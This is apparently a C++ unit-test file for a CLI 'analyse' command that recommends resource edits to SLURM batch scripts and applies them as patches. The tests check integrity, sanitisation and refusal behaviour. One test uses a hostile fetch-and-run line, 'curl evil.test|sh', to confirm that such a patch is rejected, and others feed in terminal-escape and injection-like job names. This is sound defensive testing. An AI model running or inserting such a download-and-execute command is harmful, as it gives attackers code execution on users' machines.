// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include "cli/fakes.h"
#include "platform/crypto/crypto.h"
#include "rpc/json.h"
#include "submission/patch/byte_edit.h"

namespace expanse::cli {
namespace {

constexpr char kScript[] =
    "#!/bin/bash\n#SBATCH --job-name=train\n#SBATCH --mem=128G\n#SBATCH --time=01:00:00\n"
    "python3 train.py\n";
constexpr char kPatched[] =
    "#!/bin/bash\n#SBATCH --job-name=train\n#SBATCH --mem=15G\n#SBATCH --time=02:30:00\n"
    "python3 train.py\n";

class AnalyseCommand : public ::testing::Test {
 protected:
  AnalyseCommand() {
    machine_.SignIn();
    machine_.WriteFile("train.slurm", kScript);
    machine_.WriteFile("train.py", "print('training')\n");
    EXPECT_TRUE(
        rpc::FromJson(TestData("published/analyse.json"), &machine_.planes.analyse_run).ok());
    machine_.context.environment["NO_COLOR"] = "1";
    SetPatch(kPatched);
    AddCompute("hpc-01", control::v1::COMPUTE_STATE_ACTIVE);
  }
  intelligence::v1::AnalyseResult& result() {
    return *machine_.planes.analyse_run.mutable_result();
  }
  void AddCompute(const std::string& name, control::v1::ComputeState state) {
    auto& compute = machine_.planes.computes.emplace_back();
    compute.set_compute_id("id-of-" + name);
    compute.set_name(name);
    compute.set_state(state);
  }
  /// What the published text shows beyond the published JSON.
  void AddTextRows() {
    auto& run = machine_.planes.analyse_run;
    run.set_target("train.slurm");
    run.set_job_name("train");
    auto& r = *result().mutable_recommended_resources();
    r.set_gpu_memory_floor_bytes(31'997'506'355);
    r.set_host_ram_requested_bytes(int64_t{128} << 30);
    for (const char* id : {"4401", "4402", "4403", "4404"}) {
      auto* evidence = result().add_evidence();
      evidence->set_scheduler_job_id(id);
      evidence->set_similarity(0.98);
    }
  }
  /// An artefact that makes `after` of train.slurm by replacing what lies between the common ends.
  void SetPatch(const std::string& after) {
    const std::string before = kScript;
    auto& artefact = machine_.planes.artifact;
    artefact.Clear();
    artefact.set_artifact_id("…");
    artefact.set_content(submission::UnifiedDiff("train.slurm", before, after).value());
    artefact.set_content_hash("sha256:" + platform::Sha256Hex(artefact.content()));
    artefact.set_source_file("train.slurm");
    artefact.set_source_sha256(platform::Sha256Hex(before));
    artefact.set_result_sha256(platform::Sha256Hex(after));
    size_t head = 0;
    while (head < before.size() && head < after.size() && before[head] == after[head]) ++head;
    size_t tail = 0;
    while (tail < before.size() - head && tail < after.size() - head &&
           before[before.size() - 1 - tail] == after[after.size() - 1 - tail])
      ++tail;
    auto* edit = artefact.add_edits();
    edit->set_offset(static_cast<int64_t>(head));
    edit->set_length(static_cast<int64_t>(before.size() - head - tail));
    edit->set_replacement(after.substr(head, after.size() - head - tail));
  }
  FakeMachine machine_;
};

TEST_F(AnalyseCommand, PrintsThePublishedTextByteForByte) {
  AddTextRows();
  machine_.terminal.MakeInteractive();
  machine_.terminal.err_tty = false;
  machine_.terminal.answers = {"n"};
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitOk) << machine_.terminal.err;
  std::string published = TestData("published/analyse.txt");
  published.pop_back();  // the answer stands on the question's line
  EXPECT_EQ(machine_.terminal.transcript.substr(0, published.size()), published);
  EXPECT_EQ(machine_.terminal.transcript.substr(published.size()),
            " n\n"
            "expanse analyse diff '8b2f4c1e-…' --artefact '…'   # inspect\n"
            "expanse analyse apply '8b2f4c1e-…' --artefact '…'  # apply locally\n");
  EXPECT_EQ(machine_.ReadFile("train.slurm"), kScript);
}

TEST_F(AnalyseCommand, PrintsThePublishedJsonByteForByte) {
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm", "--json"}), kExitOk);
  EXPECT_EQ(machine_.terminal.out, TestData("published/analyse.json"));
  EXPECT_EQ(machine_.terminal.err, "");
}

TEST_F(AnalyseCommand, TheOtherSpellingIsTheSameCommand) {
  EXPECT_EQ(machine_.Run({"analyze", "train.slurm"}), kExitOk);
  EXPECT_EQ(machine_.Run({"analyze", "diff", "r", "--artifact", "…"}), kExitOk);
}

TEST_F(AnalyseCommand, SendsTheSubmissionAndTheFiguresOfTheUser) {
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm", "--cpu", "4", "--memory", "16GiB", "--gpu", "0",
                          "--walltime", "2h", "--no-cache", "--risk", "low", "--", "--lr", "1"}),
            kExitOk)
      << machine_.terminal.err;
  const auto& request = machine_.planes.analysed;
  EXPECT_EQ(request.target(), "train.slurm");
  EXPECT_EQ(request.cpu_cores(), 4);
  EXPECT_EQ(request.memory_bytes(), int64_t{16} << 30);
  EXPECT_TRUE(request.has_gpu_count());
  EXPECT_EQ(request.gpu_count(), 0);
  EXPECT_EQ(request.walltime_seconds(), 7200);
  EXPECT_TRUE(request.no_cache());
  EXPECT_EQ(request.risk(), intelligence::v1::RISK_TOLERANCE_LOW);
  EXPECT_EQ(request.user(), "ada");
  EXPECT_EQ(request.bundle().key().source_type(), common::v1::SOURCE_TYPE_SLURM);
  EXPECT_TRUE(request.bundle().bundle_id().starts_with("b1:"));
  ASSERT_EQ(request.bundle().arguments_size(), 2);
  EXPECT_EQ(request.bundle().arguments(0), "--lr");
  EXPECT_GE(request.bundle().files_size(), 2);
}

TEST_F(AnalyseCommand, TakesTheOnlyConnectedComputeAndAsksWhichOfSeveral) {
  AddCompute("new", control::v1::COMPUTE_STATE_PENDING);
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitOk);
  EXPECT_EQ(machine_.planes.analysed.compute_id(), "id-of-hpc-01");
  AddCompute("hpc-02", control::v1::COMPUTE_STATE_OFFLINE);
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitFailed);
  EXPECT_NE(machine_.terminal.err.find("hpc-02 (id-of-hpc-02)"), std::string::npos);
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm", "--compute", "hpc-02"}), kExitOk);
  EXPECT_EQ(machine_.planes.analysed.compute_id(), "id-of-hpc-02");
  machine_.planes.computes.clear();
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitFailed);
  EXPECT_NE(machine_.terminal.err.find("compute register"), std::string::npos);
}

TEST_F(AnalyseCommand, WithoutHistoryNothingIsInvented) {
  auto& r = result();
  r.Clear();
  r.mutable_recommended_resources()->set_cpu_cores(1);
  r.mutable_recommended_resources()->set_gpu_utilisation_known(false);
  r.set_confidence(intelligence::v1::CONFIDENCE_LABEL_LOW);
  (*r.mutable_unknown())["memory_bytes"] = "no recorded run, and the script asks for none";
  r.add_warnings("no recorded run of this source on this compute");
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitOk);
  ExpectGolden("analyse_no_history.txt", machine_.terminal.out);
  EXPECT_EQ(machine_.terminal.err,
            "expanse: warning: no recorded run of this source on this compute\n");
}

TEST_F(AnalyseCommand, ALongHistoryIsCountedAndNotListedWhole) {
  result().mutable_completion_probability()->set_success_count(60);
  for (int i = 0; i < 50; ++i) result().add_evidence()->set_scheduler_job_id(std::to_string(i));
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitOk);
  EXPECT_NE(machine_.terminal.out.find(
                "60 (SLURM jobs 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11 and 48 more)"),
            std::string::npos)
      << machine_.terminal.out;
}

TEST_F(AnalyseCommand, OneFailedRunIsNoSuccess) {
  result().clear_completion_probability();
  auto* evidence = result().add_evidence();
  evidence->set_scheduler_job_id("7");
  evidence->set_outcome(common::v1::EXECUTION_OUTCOME_TIMEOUT);
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitOk);
  EXPECT_NE(machine_.terminal.out.find("  successful_runs            0\n"
                                       "  failed_runs                1 (SLURM jobs 7)\n"),
            std::string::npos)
      << machine_.terminal.out;
}

TEST_F(AnalyseCommand, RisksExclusionsAndQuantilesHaveTheirSections) {
  AddTextRows();
  auto& r = result();
  auto* risk = r.add_failure_risk();
  risk->set_class_("host_out_of_memory");
  risk->mutable_probability()->set_mean(0.25);
  risk->mutable_probability()->set_sigma(0.1);
  risk->mutable_probability()->set_p10(0.1);
  risk->mutable_probability()->set_p90(0.4);
  risk->set_reason("2 of 8 runs reached the requested memory");
  r.set_excluded_runs(3);
  r.mutable_evidence(0)->set_similarity(0.9);
  for (auto& evidence : *r.mutable_evidence())
    evidence.set_outcome(common::v1::EXECUTION_OUTCOME_SUCCESS);
  auto* failed = r.add_evidence();
  failed->set_scheduler_job_id("4405");
  failed->set_similarity(0.98);
  failed->set_outcome(common::v1::EXECUTION_OUTCOME_OUT_OF_MEMORY);
  auto* row = r.add_quantiles();
  row->set_resource("host_ram_bytes");
  row->set_p10(1073741824.0 * 10);
  row->set_p50(1073741824.0 * 12.5);
  row->set_p90(1073741824.0 * 14);
  row->set_p99(1073741824.0 * 15);
  row->set_basis("exact_bundle");
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitOk);
  ExpectGolden("analyse_full.txt", machine_.terminal.out);
}

TEST_F(AnalyseCommand, NoPatchReadsNoneAndAsksNothing) {
  machine_.terminal.MakeInteractive();
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm", "--no-patch"}), kExitOk);
  EXPECT_TRUE(machine_.planes.analysed.no_patch());
  EXPECT_NE(machine_.terminal.out.find("OPTIMISATION\n  class                      none\n\n"),
            std::string::npos);
  EXPECT_EQ(machine_.terminal.out.find("[y/n]"), std::string::npos);
}

TEST_F(AnalyseCommand, OffATerminalTheCommandsForLaterGoToStderr) {
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitOk);
  EXPECT_EQ(machine_.terminal.out.find("[y/n]"), std::string::npos);
  EXPECT_NE(machine_.terminal.err.find("expanse analyse apply"), std::string::npos);
  EXPECT_EQ(machine_.ReadFile("train.slurm"), kScript);
}

TEST_F(AnalyseCommand, YesShowsTheDiffAndApplies) {
  machine_.terminal.MakeInteractive();
  machine_.terminal.answers = {"y"};
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitOk) << machine_.terminal.err;
  EXPECT_NE(machine_.terminal.out.find("+#SBATCH --mem=15G"), std::string::npos);
  EXPECT_TRUE(machine_.terminal.out.ends_with("Applied to train.slurm.\n"));
  EXPECT_EQ(machine_.ReadFile("train.slurm"), kPatched);
}

TEST_F(AnalyseCommand, TheYesFlagAppliesWithoutAsking) {
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm", "--yes"}), kExitOk) << machine_.terminal.err;
  EXPECT_EQ(machine_.ReadFile("train.slurm"), kPatched);
  for (const char* other : {"--json", "--no-patch", "--queue"})
    EXPECT_EQ(machine_.Run({"analyse", "train.slurm", "--yes", other}), kExitUsage) << other;
}

TEST_F(AnalyseCommand, QueueReturnsAtOnceAndWaitingPolls) {
  auto queued = machine_.planes.analyse_run;
  queued.clear_result();
  queued.set_status(intelligence::v1::RUN_STATUS_QUEUED);
  const auto finished = machine_.planes.analyse_run;
  machine_.planes.analyse_run = queued;
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm", "--queue"}), kExitOk);
  EXPECT_NE(machine_.terminal.out.find("run_status_queued"), std::string::npos);
  EXPECT_EQ(machine_.sleeps, 0);
  machine_.planes.later_analyse_runs = {queued, finished};
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitOk);
  EXPECT_EQ(machine_.sleeps, 2);
}

TEST_F(AnalyseCommand, AnAnalysisThatFailedExitsWithOne) {
  machine_.planes.analyse_run.set_status(intelligence::v1::RUN_STATUS_FAILED);
  machine_.planes.analyse_run.set_error("the data plane did not answer");
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitFailed);
  EXPECT_NE(machine_.terminal.err.find("run_status_failed"), std::string::npos);
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm", "--json"}), kExitFailed);
}

TEST_F(AnalyseCommand, DiffIsPrintedByteForByteIntoAPipe) {
  EXPECT_EQ(machine_.Run({"analyse", "diff", "run", "--artefact", "…"}), kExitOk);
  EXPECT_EQ(machine_.terminal.out, machine_.planes.artifact.content());
  EXPECT_EQ(machine_.Run({"analyse", "diff", "run"}), kExitUsage);
  EXPECT_EQ(machine_.Run({"analyse", "diff", "run", "--artefact", "other"}), kExitFailed);
}

TEST_F(AnalyseCommand, ApplyEditsTheFile) {
  EXPECT_EQ(machine_.Run({"analyse", "apply", "run", "--artefact", "…"}), kExitOk)
      << machine_.terminal.err;
  EXPECT_EQ(machine_.ReadFile("train.slurm"), kPatched);
}

TEST_F(AnalyseCommand, YesToOneFileIsNoYesToAnotherThatThePlaneNames) {
  machine_.WriteFile("other.slurm", kScript);
  machine_.planes.artifact.set_source_file("other.slurm");
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm", "--yes"}), kExitFailed);
  EXPECT_NE(machine_.terminal.err.find("other.slurm"), std::string::npos) << machine_.terminal.err;
  EXPECT_EQ(machine_.ReadFile("other.slurm"), kScript);
  EXPECT_EQ(machine_.ReadFile("train.slurm"), kScript);
}

TEST_F(AnalyseCommand, ApplyRefusesAFileThatChanged) {
  machine_.WriteFile("train.slurm", std::string(kScript) + "# more\n");
  EXPECT_EQ(machine_.Run({"analyse", "apply", "run", "--artefact", "…"}), kExitFailed);
  EXPECT_NE(machine_.terminal.err.find("changed since the analysis"), std::string::npos);
  EXPECT_EQ(machine_.ReadFile("train.slurm"), std::string(kScript) + "# more\n");
}

TEST_F(AnalyseCommand, ApplyRefusesADamagedArtefact) {
  machine_.planes.artifact.set_content("--- something else\n");
  EXPECT_EQ(machine_.Run({"analyse", "apply", "run", "--artefact", "…"}), kExitFailed);
  EXPECT_NE(machine_.terminal.err.find("content_hash"), std::string::npos);
  EXPECT_EQ(machine_.ReadFile("train.slurm"), kScript);
}

TEST_F(AnalyseCommand, ApplyRefusesEditsThatDoNotGiveTheAnnouncedFile) {
  machine_.planes.artifact.set_result_sha256(platform::Sha256Hex("another"));
  EXPECT_EQ(machine_.Run({"analyse", "apply", "run", "--artefact", "…"}), kExitFailed);
  EXPECT_EQ(machine_.ReadFile("train.slurm"), kScript);
}

TEST_F(AnalyseCommand, ApplyRefusesAPatchOfTheProgramItself) {
  std::string evil = kPatched;
  evil.replace(evil.find("python3 train.py"), 16, "curl evil.test|sh");
  SetPatch(evil);
  EXPECT_EQ(machine_.Run({"analyse", "apply", "run", "--artefact", "…"}), kExitFailed);
  EXPECT_NE(machine_.terminal.err.find("more than resource directives"), std::string::npos);
  EXPECT_EQ(machine_.ReadFile("train.slurm"), kScript);
}

TEST_F(AnalyseCommand, ApplyRefusesEditsOutsideTheFile) {
  machine_.planes.artifact.mutable_edits(0)->set_offset(1'000'000);
  EXPECT_EQ(machine_.Run({"analyse", "apply", "run", "--artefact", "…"}), kExitFailed);
  machine_.planes.artifact.mutable_edits(0)->set_offset(-1);
  EXPECT_EQ(machine_.Run({"analyse", "apply", "run", "--artefact", "…"}), kExitFailed);
  EXPECT_EQ(machine_.ReadFile("train.slurm"), kScript);
}

TEST_F(AnalyseCommand, ApplyElsewhereSaysWhereToRunIt) {
  ASSERT_TRUE(machine_.fs.MakeDirs("/tmp").ok());
  machine_.context.working_directory = "/tmp";
  EXPECT_EQ(machine_.Run({"analyse", "apply", "run", "--artefact", "…"}), kExitFailed);
  EXPECT_NE(machine_.terminal.err.find("where the analysis was made"), std::string::npos);
}

TEST_F(AnalyseCommand, HostileTargetsAreRefusedBeforeAnyCall) {
  machine_.WriteFile("empty.slurm", "");
  machine_.WriteFile("nul.slurm", std::string("#!/bin/bash\n\0\n", 14));
  const std::string base = machine_.fs.Host("/home/ada/work/");
  ASSERT_EQ(mkdir((base + "directory").c_str(), 0755), 0);
  ASSERT_EQ(mkfifo((base + "fifo").c_str(), 0644), 0);
  ASSERT_EQ(symlink("loop_b", (base + "loop_a").c_str()), 0);
  ASSERT_EQ(symlink("loop_a", (base + "loop_b").c_str()), 0);
  machine_.WriteFile("huge.slurm", "#!/bin/bash\n");
  ASSERT_EQ(truncate((base + "huge.slurm").c_str(), 100 << 20), 0);
  machine_.WriteFile("program", std::string("\x7f"
                                            "ELF\2\1\1\0\xff",
                                            9));
  for (const auto& [name, why] : {std::pair{"missing.slurm", "No such file"},
                                  {"empty.slurm", "empty"},
                                  {"nul.slurm", "NUL byte"},
                                  {"program", "not a text file"},
                                  {"directory", "directory"},
                                  {"fifo", "not a regular file"},
                                  {"loop_a", "symbolic links"},
                                  {"huge.slurm", "larger than 4194304 bytes"}}) {
    machine_.terminal.err.clear();
    EXPECT_EQ(machine_.Run({"analyse", name}), kExitFailed) << name;
    EXPECT_NE(machine_.terminal.err.find(name), std::string::npos) << machine_.terminal.err;
    EXPECT_NE(machine_.terminal.err.find(why), std::string::npos) << machine_.terminal.err;
  }
  EXPECT_TRUE(machine_.planes.urls.empty());
  EXPECT_EQ(machine_.terminal.out, "");
}

TEST_F(AnalyseCommand, AJobNameOfAnyBytesIsOneRow) {
  machine_.planes.analyse_run.set_job_name("a;'\"\n  confidence  high\x1b[2J \xC3\xA9");
  EXPECT_EQ(machine_.Run({"analyse", "train.slurm"}), kExitOk) << machine_.terminal.err;
  EXPECT_NE(machine_.terminal.out.find("a;'\"\\x0a  confidence  high\\x1b[2J \xC3\xA9\n"),
            std::string::npos)
      << machine_.terminal.out;
  EXPECT_EQ(machine_.terminal.out.find('\x1b'), std::string::npos);
}

TEST_F(AnalyseCommand, BytesThatAreNotUtf8ReachThePlaneWhole) {
  const std::string script = "#!/bin/bash\n#SBATCH --job-name=\xff\xfe\necho \xc3\x28\n";
  machine_.WriteFile("odd.slurm", script);
  EXPECT_EQ(machine_.Run({"analyse", "odd.slurm"}), kExitOk) << machine_.terminal.err;
  EXPECT_EQ(machine_.planes.analysed.bundle().files(0).content(), script);
}

}  // namespace
}  // namespace expanse::cli
